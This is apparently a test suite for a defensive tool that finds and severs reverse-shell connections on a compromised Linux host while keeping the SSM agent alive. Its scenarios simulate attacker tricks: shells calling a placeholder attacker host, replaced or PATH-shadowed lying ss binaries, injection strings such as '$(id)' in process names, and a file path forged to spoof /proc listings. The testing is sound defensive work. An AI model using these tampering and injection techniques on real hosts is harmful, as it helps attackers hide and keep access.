/** Hosts that lie, are full, read-only, crowded, or fight back. */
import assert from 'node:assert/strict';
import { setTimeout as sleep } from 'node:timers/promises';
import { ATTACKER, ATTACKER_V6, now, PEERS } from '../lab.ts';
import { AGENT, BEACON, liveShell, SHELL, SHELL_V6, SHELLS, scenario } from '../scenario.ts';

scenario('without ss the owner is stopped, nothing is called proven, and undo lets it go on', async (lab) => {
  lab.victim('rm /usr/bin/ss');
  await liveShell(lab);
  const { flows, verdict } = lab.script('cut', { remote: 'none' });
  assert.deepEqual(verdict.sources, ['proc']);
  assert.equal(flows.find(({ remotePort }) => remotePort === SHELL)?.after, 'open');
  assert.ok(verdict.survived === 1 && (verdict.stopped ?? []).length > 0);
  const from = now();
  await sleep(1000);
  assert.ok(lab.dataSince(SHELL, from + 0.2) === 0, 'the stopped shell still talks');
  await lab.alive(AGENT);
  lab.script('undo', { environment: { SSM_Pids: (verdict.stopped ?? []).join(',') } });
  await lab.alive(SHELL);
});

scenario(
  'without ss, a shell that ignores TERM, and killing opted in: it is killed and its socket gone',
  async (lab) => {
    lab.victim('rm /usr/bin/ss');
    lab.start('stubborn_shell', ATTACKER, SHELL);
    lab.startAgent();
    await lab.alive(SHELL, AGENT);
    const { flows, verdict } = lab.script('cut', { environment: { SSM_Survivors: 'kill' } });
    assert.deepEqual([verdict.survived, verdict.sources], [0, ['proc']]);
    assert.equal(flows.find(({ remotePort }) => remotePort === SHELL)?.after, 'gone');
    await lab.alive(AGENT);
  },
);

scenario('a lying ss first in PATH is not asked', async (lab) => {
  await liveShell(lab);
  lab.victim(
    'mkdir -p /run/evil && for t in ss nft awk ls cat; do printf "#!/bin/sh\\nexit 0\\n" > /run/evil/$t; chmod +x /run/evil/$t; done',
  );
  const environment = { PATH: '/run/evil:/usr/bin:/bin' };
  const { flows, verdict } = lab.script('cut', { environment });
  assert.equal(flows.find(({ remotePort }) => remotePort === SHELL)?.after, 'gone');
  assert.deepEqual([verdict.survived, verdict.firewall, [...verdict.sources].sort()], [0, 'nftables', ['proc', 'ss']]);
});

scenario('an ss that was replaced and lies is contradicted by /proc', async (lab) => {
  await liveShell(lab);
  lab.victim(
    'printf "#!/bin/sh\\nexit 0\\n" > /usr/bin/ss.new && chmod +x /usr/bin/ss.new && mv -f /usr/bin/ss.new /usr/bin/ss',
  );
  const { flows, verdict } = lab.script('cut', { remote: 'none', environment: { SSM_Survivors: 'leave' } });
  assert.equal(flows.find(({ remotePort }) => remotePort === SHELL)?.after, 'open');
  assert.equal(verdict.survived, 1);
});

scenario('a shell that dials again every 200 ms, to a peer nobody named: the peer is denied too', async (lab) => {
  lab.start('respawning_shell', ATTACKER, SHELL);
  lab.startAgent();
  await lab.alive(SHELL, AGENT);
  const { verdict } = lab.script('cut', { remote: 'none' });
  assert.deepEqual([verdict.survived, verdict.denied, verdict.firewall], [0, [ATTACKER], 'nftables']);
  const from = now();
  await sleep(1500);
  assert.equal(lab.dataSince(SHELL, from), 0);
  await lab.alive(AGENT);
});

scenario('a full disk and a read-only root do not matter', async (lab) => {
  await liveShell(lab);
  lab.fillDisk();
  for (const shell of SHELLS) assert.deepEqual(lab.script('list', { shell }).verdict.errors, []);
  const { verdict } = lab.script('cut');
  assert.deepEqual([verdict.survived, verdict.firewall, verdict.errors], [0, 'nftables', []]);
});

scenario('names made to break their reader are cleaned, and nobody becomes the agent by name', async (lab) => {
  lab.startAgent();
  const names = ['a\n@error x', '\u001b[31m"},{"v', '\'$(id)`\\"', 'x\t1\t2\t3', 'amazon-ssm-agen'];
  for (const name of names) lab.start('named_shell', ATTACKER, SHELL, Buffer.from(name).toString('hex'));
  await lab.until(
    'all are connected',
    () => lab.events.filter(({ kind, port }) => kind === 'accepted' && port === SHELL).length === names.length,
  );
  await lab.alive(SHELL);
  const { flows, verdict, raw } = lab.script('cut');
  assert.deepEqual([verdict.listed, verdict.survived, verdict.errors], [names.length, 0, []]);
  assert.ok(flows.every(({ process, pid }) => process !== null && /^[ -~]*$/.test(process) && (pid ?? 0) > 1));
  assert.match(raw, /^[\n -~]*$/);
  await lab.alive(AGENT);
});

scenario('two cuts at once, and a third after them: one table, no rule doubled, one undo removes it', async (lab) => {
  await liveShell(lab);
  lab.victim('nft add table inet theirs');
  const results = await lab.scriptsAtOnce('cut', 2);
  for (const { verdict } of results) assert.deepEqual([verdict.survived, verdict.firewall], [0, 'nftables']);
  const rules = lab.victim('nft list ruleset');
  lab.script('cut');
  assert.equal(lab.victim('nft list ruleset'), rules);
  assert.equal(rules.match(/jump peers/g)?.length, 3);
  lab.script('undo');
  assert.equal(lab.victim('nft list tables').trim(), 'table inet theirs');
});
// ---------------------------------------------------------------------------------------------------------------- file names

scenario('a file name made to look like a listing gives nobody the socket of another', async (lab) => {
  await liveShell(lab);
  const owner = (): number | null | undefined =>
    lab.script('list').flows.find(({ remotePort }) => remotePort === SHELL)?.pid;
  const before = owner();
  // An open file whose path goes on, line by line, as the listing of process 1's descriptors would.
  const inode = lab.victim(`ss -tne dport = :${SHELL} | grep -o 'ino:[0-9]*' | cut -d: -f2`).trim();
  const path = `/run/x\\n/proc/1/fd:\\nlrwx 1 0 0 64 d 3 -> socket:[${inode}]`;
  lab.startShell(`p="$(printf '${path}')" && mkdir -p "\${p%/*}" && exec 8>"$p" && exec sleep 60`);
  await sleep(300);
  assert.match(lab.victim('ls -lnq /proc/[0-9]*/fd 2>/dev/null || true'), /x\?\/proc\/1\/fd:\?lrwx .* socket/);
  assert.equal(owner(), before);
});

scenario('flows of a named process and of its descendants are marked', async (lab) => {
  lab.startShell(`/usr/bin/python3 -u ${PEERS} stubborn_shell ${ATTACKER} ${SHELL}; true`);
  lab.start('reverse_shell', ATTACKER_V6, SHELL_V6);
  await lab.alive(SHELL, SHELL_V6);
  const parent = lab
    .victim('grep -l stubborn_shell /proc/[0-9]*/cmdline | grep -v self | head -1 | cut -d/ -f3')
    .trim();
  const { flows } = lab.script('list', { remote: 'none', environment: { SSM_Pids: parent } });
  assert.equal(flows.find(({ remotePort }) => remotePort === SHELL)?.asked, 'pid');
  assert.equal(flows.find(({ remotePort }) => remotePort === SHELL_V6)?.asked, null);
});

scenario("a container's root that calls itself the agent is closed like anybody", async (lab) => {
  lab.startShell(`exec unshare --pid --fork /usr/bin/amazon-ssm-agent -u ${PEERS} beacon ${ATTACKER} ${BEACON}`);
  lab.startAgent();
  await lab.alive(BEACON, AGENT);
  const { verdict } = lab.script('cut');
  assert.deepEqual([verdict.listed, verdict.survived], [1, 0]);
  await lab.alive(AGENT);
});
